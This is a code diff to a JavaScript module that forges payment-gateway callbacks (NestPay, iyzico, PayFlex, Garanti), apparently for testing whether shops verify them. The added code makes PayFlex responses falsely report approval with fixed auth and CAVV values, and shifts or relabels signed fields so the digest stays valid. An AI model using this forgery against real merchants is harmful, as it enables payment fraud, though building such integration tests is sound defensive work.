@@ -1,15 +1,19 @@
 // What a dishonest customer can do to a genuine message: repeat it, edit it, relabel it, send it elsewhere. Nothing here knows a
 // secret.
 import { parseForm } from './form.js';
+import { isSignedReturn, withOwnList, withShiftedBorder } from './garanti-attacks.js';
 import { signedFields, upperAscii } from './nestpay-hash.js';
 
 /** @typedef {import('./courier.js').Message} Message */
-/** @typedef {{ url: string, headers: Record<string, string>, body: string }} Sent */
+/** @typedef {{ url: string, headers: Record<string, string>, body: string, method?: 'GET' }} Sent */
 
 const isForm = (message) => message.headers['content-type'] === 'application/x-www-form-urlencoded';
 const isWebhook = (message) => message.kind === 'webhook';
 const isCallback = (message) => message.system === 'nestpay';
-const isSigned = (message) => message.system !== 'iyzico' || isWebhook(message);
+const isSigned = (message) => {
+  if (message.system === 'payflex') return message.body.includes('&Hash=');
+  return message.system !== 'iyzico' || isWebhook(message);
+};
 
 /** In the order of the panel. `fits` tells for which messages an attack makes sense. */
 export const ATTACKS = [
@@ -18,6 +22,10 @@ export const ATTACKS = [
   {
     name: 'relabel', tr: 'Alanları yeniden adlandır (imza geçerli kalır)', en: 'Relabel the fields (the digest stays valid)',
     fits: (message) => isCallback(message) && !message.body.includes('HASHPARAMS'),
+  },
+  {
+    name: 'approve', tr: 'Onaylanmış gibi göster (imza yok)', en: 'Make it say approved (nothing is signed)',
+    fits: (message) => message.system === 'payflex',
   },
   { name: 'drop-signature', tr: 'İmzayı çıkar', en: 'Drop the signature', fits: isSigned },
   { name: 'empty-signature', tr: 'İmzayı boşalt', en: 'Empty the signature', fits: isSigned },
@@ -32,6 +40,14 @@ export const ATTACKS = [
     fits: (message) => message.kind === 'notification',
   },
   {
+    name: 'own-list', tr: 'İmzalı alanların listesini kendin yaz (imza geçerli kalır)',
+    en: 'Write the list of signed fields yourself (the digest stays valid)', fits: isSignedReturn,
+  },
+  {
+    name: 'shift', tr: 'Sipariş numarasının sınırını kaydır (imza geçerli kalır)',
+    en: 'Move the border of the order number (the digest stays valid)', fits: isSignedReturn,
+  },
+  {
     name: 'old-header', tr: 'Eski imza başlığıyla gönder (X-Iyz-Signature)', en: 'Send under the old signature header (X-Iyz-Signature)',
     fits: isWebhook,
   },
@@ -42,7 +58,19 @@ export const ATTACKS = [
  * @param {{ attack: string, field?: string, value?: string, url?: string }} order
  * @returns {Sent & { missing?: string[] }} `missing`: what relabelling could not keep or make
  */
-export function forge(message, { attack, field = '', value = '', url = '' }) {
+export function forge(message, order) {
+  return message.method === 'GET' ? forgedAddress(message, order) : forged(message, order);
+}
+
+/** A return that is a link has its fields in the address. */
+function forgedAddress(message, order) {
+  const [address, ...fields] = message.url.split('?');
+  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
+  const form = forged({ ...message, url: address, headers, body: fields.join('?') }, { ...order, url: order.url?.split('?')[0] });
+  return { method: 'GET', url: `${form.url}?${form.body}`, headers: {}, body: '' };
+}
+
+function forged(message, { attack, field = '', value = '', url = '' }) {
   const chosen = ATTACKS.find(({ name }) => name === attack);
   if (!chosen?.fits(message)) throw new Error('this attack does not fit this message');
   const { headers, body } = message;
@@ -51,6 +79,7 @@ export function forge(message, { attack, field = '', value = '', url = '' }) {
   switch (attack) {
     case 'replay': return same;
     case 'edit': return { ...same, body: edited(message, field, value) };
+    case 'approve': return { ...same, body: approved(message) };
     case 'relabel': return { ...same, ...relabelled(body) };
     case 'drop-signature':
       if (signedByHeader) return { ...same, headers: without(headers, SIGNATURE_HEADER) };
@@ -61,6 +90,8 @@ export function forge(message, { attack, field = '', value = '', url = '' }) {
     case 'duplicate': return { ...same, body: doubled(message, field, value) };
     case 'elsewhere': return { ...same, url };
     case 'resplit': return { ...same, body: resplit(body) };
+    case 'own-list': return { ...same, body: withOwnList(body) };
+    case 'shift': return { ...same, body: withShiftedBorder(body) };
     default:
       return { ...same, headers: { ...without(headers, SIGNATURE_HEADER), 'x-iyz-signature': headers[SIGNATURE_HEADER] ?? '' } };
   }
@@ -89,6 +120,13 @@ function edited(message, field, value) {
 function doubled(message, field, value) {
   if (isForm(message)) return `${message.body}&${joined(field, value)}`;
   return message.body.replace(/^\{/, () => `{${JSON.stringify(field)}:${JSON.stringify(value)},`);
+}
+
+/** PayFlex: what the shop is told when all went well, by the MPI and by the Common Payment page. */
+function approved(message) {
+  const words = message.method === 'GET' ? { Rc: '0000', AuthCode: '123456', ErrorCode: '' }
+    : { Status: 'Y', Eci: '05', Cavv: 'AAABBEg0VhI0VniQEjRWAAAAAAA=', ErrorCode: '', ErrorMessage: '' };
+  return Object.entries(words).reduce((body, [name, value]) => edited({ ...message, body }, name, value), message.body);
 }
 
 /** 'success' + '1050' and 'success1' + '050' are the same text once they are joined. */
